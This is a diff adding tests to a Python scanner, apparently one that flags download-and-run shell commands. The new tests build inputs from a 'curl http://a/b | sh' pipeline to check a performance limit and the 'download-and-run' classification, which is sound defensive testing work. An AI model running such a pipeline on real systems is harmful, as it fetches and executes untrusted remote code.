@@ -8,6 +8,7 @@ from hypothesis import strategies as st
 
 from modelaudit.model.outline import Outline, References
 from modelaudit.model.structure import UnreadReason
+from modelaudit.readers.base import LimitReachedError
 from modelaudit.readers.shell.lexer import commands_of
 from modelaudit.readers.shell.meaning import mentions_of_script
 
@@ -143,3 +144,17 @@ def test_any_text_is_split(text):
 @given(st.binary(max_size=300), st.sampled_from(["a.sh", "Dockerfile", "Makefile", "a.ps1", ".gitconfig", "a.service"]))
 def test_any_bytes_end_in_structures_or_absences(read_bytes, data, path):
     read_bytes(b"RUN true\n" + data, path)
+
+
+def test_what_comes_through_a_pipeline_is_looked_at_a_bounded_number_of_times():
+    told = []
+    with pytest.raises(LimitReachedError, match="feed"):
+        told.extend(each.use for each in mentions_of_script("curl http://a/b | sh" + " | sh" * 20_000))
+    # Each of them costs a look at all before it: 700 are 245,000 looks, and what they show is told.
+    assert set(told) == {"download-and-run"}
+    assert 100 < len(told) < 700
+
+
+def test_a_pipeline_as_people_write_them_is_followed_to_its_end():
+    script = "curl http://a/b | sh" + " | tee a" * 200 + " | bash"
+    assert [each.name for each in mentions_of_script(script)] == ["http://a/b"] * 2
